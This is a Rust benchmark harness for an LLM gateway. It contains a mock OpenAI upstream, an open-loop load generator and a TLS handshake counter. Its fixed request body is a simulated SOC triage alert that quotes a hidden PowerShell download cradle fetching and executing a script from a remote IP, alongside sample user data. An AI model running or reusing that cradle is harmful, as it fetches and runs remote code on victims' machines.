//! The gateway's latency harness: a zero-delay OpenAI upstream, and an open-loop load generator
//! at a fixed request rate (latency measured from each request's scheduled time, so a stall
//! counts against every request it delays).
//!
//! ```text
//! gateway_load upstream --listen 127.0.0.1:9100
//! gateway_load load --url http://127.0.0.1:8080/v1/chat/completions --token rmp_… \
//!     --model rempart/bench --rate 2000 --seconds 20 [--ca ca.pem]
//! gateway_load handshakes --url https://localhost:8443/healthz --ca ca.pem --seconds 10 --concurrency 8
//! ```
//!
//! `handshakes` opens a fresh TLS connection for every request (no keep-alive) and reports how
//! many full handshakes (with a request each) the server completed per second.
//!
//! `scripts/bench-gateway` runs both against `rempart serve` and against the upstream directly.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::print_stdout,
    clippy::disallowed_methods,
    reason = "a benchmark harness: failures abort the run, results go to stdout"
)]

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use axum::Router;
use axum::routing::post;
use serde_json::{Value, json};

/// A triage request as a SOC tool sends one: an alert with its personal data.
fn body(model: &str) -> Value {
    json!({"model": model, "temperature": 0, "messages": [
        {"role": "system", "content": "You are a SOC analyst. Answer with a verdict and a one-line reason."},
        {"role": "user", "content": "Alert: Suspicious PowerShell download cradle on ws-042.corp.example.\n\
            User CORP\\alice (alice.martin@corp.example) ran powershell.exe -nop -w hidden -c \
            \"IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.4/a.ps1')\" \
            from C:\\Users\\alice\\Downloads. Source 10.20.30.40:49812 -> 185.220.101.4:80. \
            Parent: WINWORD.EXE (pid 4242). SID S-1-5-21-1004336348-1177238915-682003330-1106. \
            Earlier: 3 failed logons for bob@corp.example from 10.20.30.41."}
    ]})
}

async fn upstream(listen: &str) {
    let answer = json!({"id": "chatcmpl-bench", "object": "chat.completion", "created": 1, "model": "bench",
        "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant",
            "content": "Verdict: malicious. The host contacted 185.220.101.4 after a macro launched PowerShell."}}],
        "usage": {"prompt_tokens": 120, "completion_tokens": 20, "total_tokens": 140}});
    let answer = Arc::new(serde_json::to_vec(&answer).unwrap());
    let app = Router::new().route(
        "/v1/chat/completions",
        post(move |_body: axum::body::Bytes| {
            let answer = answer.clone();
            async move { ([("content-type", "application/json")], answer.as_ref().clone()) }
        }),
    );
    let listener = tokio::net::TcpListener::bind(listen).await.unwrap();
    println!("upstream listening on {}", listener.local_addr().unwrap());
    axum::serve(listener, app).await.unwrap();
}

fn percentile(sorted: &[u64], p: f64) -> f64 {
    if sorted.is_empty() {
        return f64::NAN;
    }
    let rank = ((p / 100.0) * (sorted.len() as f64 - 1.0)).round() as usize;
    sorted[rank.min(sorted.len() - 1)] as f64 / 1000.0
}

/// A client trusting the system's roots and, if given, the CA certificates of a PEM file.
fn client(ca: Option<&str>, keep_alive: bool) -> reqwest::Client {
    let mut b = reqwest::Client::builder().pool_max_idle_per_host(if keep_alive { 1024 } else { 0 });
    if let Some(ca) = ca {
        let pem = std::fs::read(ca).unwrap();
        for cert in reqwest::Certificate::from_pem_bundle(&pem).unwrap() {
            b = b.add_root_certificate(cert);
        }
    }
    b.build().unwrap()
}

async fn handshakes(url: String, ca: Option<String>, seconds: u64, concurrency: usize) {
    let done = Arc::new(AtomicU64::new(0));
    let errors = Arc::new(AtomicU64::new(0));
    let start = Instant::now();
    let deadline = start + Duration::from_secs(seconds);
    let mut workers = tokio::task::JoinSet::new();
    for _ in 0..concurrency {
        let (url, ca, done, errors) = (url.clone(), ca.clone(), done.clone(), errors.clone());
        workers.spawn(async move {
            while Instant::now() < deadline {
                // A new client per request: a new connection, a full handshake.
                let c = client(ca.as_deref(), false);
                match c.get(&url).send().await {
                    Ok(r) if r.status().is_success() => done.fetch_add(1, Ordering::Relaxed),
                    _ => errors.fetch_add(1, Ordering::Relaxed),
                };
            }
        });
    }
    while workers.join_next().await.is_some() {}
    let elapsed = start.elapsed().as_secs_f64();
    let out = json!({"url": url, "seconds": seconds, "concurrency": concurrency,
        "handshakes": done.load(Ordering::Relaxed), "errors": errors.load(Ordering::Relaxed),
        "per_second": done.load(Ordering::Relaxed) as f64 / elapsed});
    println!("{out}");
}

async fn load(
    url: String,
    token: Option<String>,
    model: String,
    rate: u64,
    seconds: u64,
    max_in_flight: u64,
    ca: Option<String>,
) {
    let client = client(ca.as_deref(), true);
    let payload = Arc::new(serde_json::to_vec(&body(&model)).unwrap());
    let total = rate * seconds;
    let interval = Duration::from_secs_f64(1.0 / rate as f64);
    let in_flight = Arc::new(AtomicU64::new(0));
    let errors = Arc::new(AtomicU64::new(0));
    // Why requests failed: an HTTP status, or `transport` for no response at all.
    let failures = Arc::new(std::sync::Mutex::new(std::collections::BTreeMap::<String, u64>::new()));
    let shed = Arc::new(AtomicU64::new(0));
    // Each answered request: the second of the run it was scheduled in, and its latency (µs).
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<(u64, u64)>();
    // Warm the connection pool.
    for _ in 0..50 {
        let mut rb = client
            .post(&url)
            .header("content-type", "application/json")
            .body(payload.as_ref().clone());
        if let Some(t) = &token {
            rb = rb.bearer_auth(t);
        }
        let _ = rb.send().await.unwrap().bytes().await;
    }
    let start = Instant::now();
    for i in 0..total {
        let scheduled = start + interval.mul_f64(i as f64);
        tokio::time::sleep_until(scheduled.into()).await;
        if in_flight.load(Ordering::Relaxed) >= max_in_flight {
            shed.fetch_add(1, Ordering::Relaxed);
            continue;
        }
        in_flight.fetch_add(1, Ordering::Relaxed);
        let mut rb = client
            .post(&url)
            .header("content-type", "application/json")
            .body(payload.as_ref().clone());
        if let Some(t) = &token {
            rb = rb.bearer_auth(t);
        }
        let (tx, in_flight, errors, failures) = (tx.clone(), in_flight.clone(), errors.clone(), failures.clone());
        tokio::spawn(async move {
            let failure = match rb.send().await {
                Ok(r) if r.status().is_success() => r.bytes().await.err().map(|_| "body".to_owned()),
                Ok(r) => Some(r.status().as_u16().to_string()),
                Err(_) => Some("transport".to_owned()),
            };
            match failure {
                None => {
                    let second = i / rate;
                    let _ = tx.send((
                        second,
                        u64::try_from(scheduled.elapsed().as_micros()).unwrap_or(u64::MAX),
                    ));
                }
                Some(why) => {
                    errors.fetch_add(1, Ordering::Relaxed);
                    *failures.lock().unwrap().entry(why).or_default() += 1;
                }
            }
            in_flight.fetch_sub(1, Ordering::Relaxed);
        });
    }
    drop(tx);
    let mut lat = Vec::with_capacity(usize::try_from(total).unwrap_or(0));
    // The slowest answer of each second of the run: a stall shows where it happened (at the
    // start, or every few seconds).
    let mut max_by_second = vec![0u64; usize::try_from(seconds).unwrap_or(0)];
    while let Some((second, us)) = rx.recv().await {
        lat.push(us);
        if let Some(m) = max_by_second.get_mut(usize::try_from(second).unwrap_or(usize::MAX)) {
            *m = (*m).max(us);
        }
    }
    let max_by_second: Vec<f64> = max_by_second.iter().map(|&us| us as f64 / 1000.0).collect();
    let elapsed = start.elapsed().as_secs_f64();
    lat.sort_unstable();
    let out = json!({
        "url": url, "rate": rate, "seconds": seconds, "requests": total, "ok": lat.len(),
        "errors": errors.load(Ordering::Relaxed), "failures": *failures.lock().unwrap(),
        "shed": shed.load(Ordering::Relaxed),
        "achieved_rps": lat.len() as f64 / elapsed,
        "p50_ms": percentile(&lat, 50.0), "p90_ms": percentile(&lat, 90.0), "p99_ms": percentile(&lat, 99.0),
        "p999_ms": percentile(&lat, 99.9), "max_ms": percentile(&lat, 100.0),
        "max_ms_by_second": max_by_second,
    });
    println!("{out}");
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let get = |name: &str| {
        args.iter()
            .position(|a| a == name)
            .and_then(|i| args.get(i + 1))
            .cloned()
    };
    match args.first().map(String::as_str) {
        Some("upstream") => upstream(&get("--listen").unwrap_or_else(|| "127.0.0.1:9100".into())).await,
        Some("load") => {
            load(
                get("--url").expect("--url"),
                get("--token"),
                get("--model").unwrap_or_else(|| "rempart/bench".into()),
                get("--rate").map_or(1000, |r| r.parse().expect("--rate N")),
                get("--seconds").map_or(20, |s| s.parse().expect("--seconds N")),
                get("--max-in-flight").map_or(2048, |s| s.parse().expect("--max-in-flight N")),
                get("--ca"),
            )
            .await;
        }
        Some("handshakes") => {
            handshakes(
                get("--url").expect("--url"),
                get("--ca"),
                get("--seconds").map_or(10, |s| s.parse().expect("--seconds N")),
                get("--concurrency").map_or(8, |s| s.parse().expect("--concurrency N")),
            )
            .await;
        }
        _ => {
            eprintln!(
                "usage: gateway_load upstream [--listen ADDR] | load --url URL [--token T] [--model M] [--rate N] [--seconds N] [--ca PEM] | handshakes --url URL [--ca PEM] [--seconds N] [--concurrency N]"
            );
            std::process::exit(2);
        }
    }
}
